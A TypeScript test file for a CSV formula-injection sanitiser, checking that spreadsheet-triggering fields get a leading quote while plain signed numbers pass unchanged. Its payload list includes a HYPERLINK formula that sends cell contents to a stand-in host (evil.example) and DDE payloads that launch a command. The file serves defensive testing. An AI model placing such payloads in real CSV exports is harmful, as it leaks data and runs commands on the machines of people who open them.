import assert from "node:assert/strict";
import { test } from "node:test";
import { neutraliseFormula } from "./csv-safe-field";

test("fields a spreadsheet would evaluate get a single quote in front", () => {
  const payloads = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+",
    "=",
    "@",
    "-A1",
    "+1 +1",
    "-1)*cmd|' /C calc'!A0",
    "-12.5e3+1",
  ];
  for (const payload of payloads) assert.equal(neutraliseFormula(payload), `'${payload}`, JSON.stringify(payload));
});

test("plain numbers, signed or not, and ordinary text are left as they are", () => {
  for (const value of [
    "-12.5",
    "+3",
    "-1,250.00",
    "-5%",
    "-0.5",
    "-.5",
    "1e-3",
    "-1E+4",
    "12",
    "007",
    "1 250",
    "Bolt M6",
    "a=b",
    "x-1",
    "",
    " =1",
    "'=already",
  ]) {
    assert.equal(neutraliseFormula(value), value, JSON.stringify(value));
  }
});

test("generated: every trigger followed by random text is neutralised unless the whole is a plain number", () => {
  let seed = 7;
  const random = () => (seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31) / 2 ** 31;
  const alphabet = "0123456789.,e%+-=@()ABC! '\"|";
  for (let i = 0; i < 2000; i++) {
    const trigger = ["=", "+", "-", "@", "\t", "\r"][Math.floor(random() * 6)]!;
    let rest = "";
    for (let n = Math.floor(random() * 8); n > 0; n--) rest += alphabet[Math.floor(random() * alphabet.length)];
    const value = trigger + rest;
    const out = neutraliseFormula(value);
    // A value left alone must be something no spreadsheet evaluates: a sign and a number only.
    if (out === value) assert.match(value, /^[+-][\d.,]*\d[\d.,]*([eE][+-]?\d+)?%?$|^[+-][\d., ]+$/, JSON.stringify(value));
    else assert.equal(out, `'${value}`);
  }
});
